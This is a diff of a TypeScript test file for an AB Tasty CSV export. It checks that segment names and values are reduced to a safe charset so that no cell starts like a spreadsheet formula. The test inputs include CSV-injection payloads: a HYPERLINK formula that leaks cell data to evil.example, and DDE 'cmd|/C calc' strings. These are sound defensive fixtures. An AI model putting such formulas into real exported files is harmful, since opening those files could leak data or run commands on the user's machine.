@@ -1,5 +1,6 @@
-import { csvField, csvTextCell, etagMatches, etagOf, heapSegmentsOfAlias, parseVisitorId, responseBytes, segmentNameCache, segmentUdcCsv as udcOutcome } from '../../functions/domain/abtasty';
+import { csvField, etagMatches, etagOf, heapSegmentsOfAlias, parseVisitorId, pullCsvValue, responseBytes, segmentNameCache, segmentUdcCsv as udcOutcome } from '../../functions/domain/abtasty';
 import type { SegmentReads } from '../../functions/domain/ports';
+import { isUdcValue } from '../../functions/domain/abtasty-udc-file';
 
 /** A part of the UDC CSV of a segment that exists. */
 const segmentUdcCsv = async (...args: Parameters<typeof udcOutcome>) => {
@@ -58,38 +59,48 @@ describe('AB Tasty pull API logic', () => {
     const first = await segmentUdcCsv(fake, 'ws', '1', { pageSize: 2, maxBytes: 10 });
     const rest = await segmentUdcCsv(fake, 'ws', '1', { pageSize: 2, startKey: first.nextKey });
 
-    expect(first.csv).toBe('visitor_id,value\na,"Engaged, ""loyal"""\nb,"Engaged, ""loyal"""\n');
+    expect(first.csv).toBe('visitor_id,value\na,Engaged_loyal\nb,Engaged_loyal\n');
     expect(first.nextKey).toEqual({ index: 2 });
-    expect(rest.csv.split('\n').filter(Boolean)).toEqual(['c', 'd', 'e'].map((id) => `${id},"Engaged, ""loyal"""`));
+    expect(rest.csv.split('\n').filter(Boolean)).toEqual(['c', 'd', 'e'].map((id) => `${id},Engaged_loyal`));
     expect(rest.nextKey).toBeUndefined();
   });
 
   it.each([
-    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
-    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
-    ['-10% promo', "'-10% promo"],
-    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', `"'\r=1"`],
-    ['Engaged = loyal', 'Engaged = loyal'],
-  ])('neutralises a text cell that a spreadsheet would run as a formula: %j', (text, cell) => {
-    expect(csvTextCell(text)).toBe(cell);
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', 'HYPERLINK(http://evil.example/?&A1_x)'],
+    ["+1+cmd|' /C calc'!A0", '1+cmd_/C_calc!A0'],
+    ['-10% promo', '10%_promo'],
+    ['@SUM(A1:A9)', 'SUM(A1:A9)'],
+    ['\t=1', '1'],
+    ['Engaged = loyal', 'Engaged_=_loyal'],
+    ['Café, "fidèles"', 'Café_fidèles'],
+  ])('writes a pull CSV value in AB Tasty\'s charset that never starts like a formula: %j', (text, value) => {
+    const written = pullCsvValue(text);
+
+    expect(written).toBe(value);
+    expect(written !== undefined && isUdcValue(written)).toBe(true);
   });
 
-  it('writes formula-like segment names and ?value= neutralised, and visitor ids unchanged', async () => {
+  it('has no pull CSV value for text with nothing usable in it', () => {
+    expect(pullCsvValue('=-+@')).toBeUndefined();
+    expect(pullCsvValue('日本語')).toBeUndefined();
+  });
+
+  it('writes formula-like segment names and ?value= in the charset, unquoted, and visitor ids unchanged', async () => {
     const { fake } = reads(['-abc', 'v1'], '=cmd|"/C calc"!A0');
 
     const byName = await segmentUdcCsv(fake, 'ws', '1', {});
     const byValue = await segmentUdcCsv(fake, 'ws', '1', { value: '@evil' });
+    const unusable = await segmentUdcCsv(fake, 'ws', '1', { value: '日本語' });
 
-    expect(byName.csv).toBe(`visitor_id,value\n-abc,"'=cmd|""/C calc""!A0"\nv1,"'=cmd|""/C calc""!A0"\n`);
-    expect(byValue.csv).toBe("visitor_id,value\n-abc,'@evil\nv1,'@evil\n");
+    expect(byName.csv).toBe('visitor_id,value\n-abc,cmd/C_calc!A0\nv1,cmd/C_calc!A0\n');
+    expect(byValue.csv).toBe('visitor_id,value\n-abc,evil\nv1,evil\n');
+    expect(unusable.csv).toBe('visitor_id,value\n-abc,heap_1\nv1,heap_1\n');
   });
 
   it('counts the size cap in response bytes, so a non-ASCII value cannot push a part past Lambda\'s 6 MB', async () => {
-    const ids = Array.from({ length: 20_000 }, (_, index) => `visitor-${String(index).padStart(24, '0')}`);
+    const ids = Array.from({ length: 40_000 }, (_, index) => `visitor-${String(index).padStart(24, '0')}`);
     const { fake } = reads(ids);
-    const value = '日本語'.repeat(85); // 255 characters, 765 bytes
+    const value = 'é'.repeat(64); // 64 characters, 128 bytes
 
     const parts: { csv: string; rows: number }[] = [];
     let startKey: Record<string, unknown> | undefined;
@@ -107,19 +118,19 @@ describe('AB Tasty pull API logic', () => {
 
   it('reads pages small enough that one page of the largest rows fits the page budget', async () => {
     const limits: number[] = [];
-    const { fake } = reads(Array.from({ length: 500 }, (_, index) => `v${index}`), `"${'名'.repeat(5000)}"`);
+    const { fake } = reads(Array.from({ length: 500 }, (_, index) => `v${index}`), 'É'.repeat(64));
     const listMembers = fake.listMembers.bind(fake);
     fake.listMembers = (set, limit, startKey) => {
       limits.push(limit);
       return listMembers(set, limit, startKey);
     };
 
-    const part = await segmentUdcCsv(fake, 'ws', '1', { maxBytes: 100_000, pageMaxBytes: 200_000 });
+    const part = await segmentUdcCsv(fake, 'ws', '1', { maxBytes: 1_000, pageMaxBytes: 2_000 });
 
-    // A row: up to 32 id bytes, a comma, the quoted name (15,000 bytes and 6 quotes, 12 bytes JSON-escaped), `\n`.
-    expect(limits).toEqual([13]);
-    expect(responseBytes(part.csv)).toBeLessThanOrEqual(100_000 + 200_000);
-    expect(part.rows).toBe(13);
+    // The largest row: 32 id bytes, a comma, the value (64 × 2 bytes), `\n` = 162 bytes; 2,000 / 162 = 12.
+    expect(limits).toEqual([12]);
+    expect(responseBytes(part.csv)).toBeLessThanOrEqual(1_000 + 2_000);
+    expect(part.rows).toBe(12);
   });
 
   it('caches segment names per workspace, reloading after the TTL or for an unknown segment', async () => {
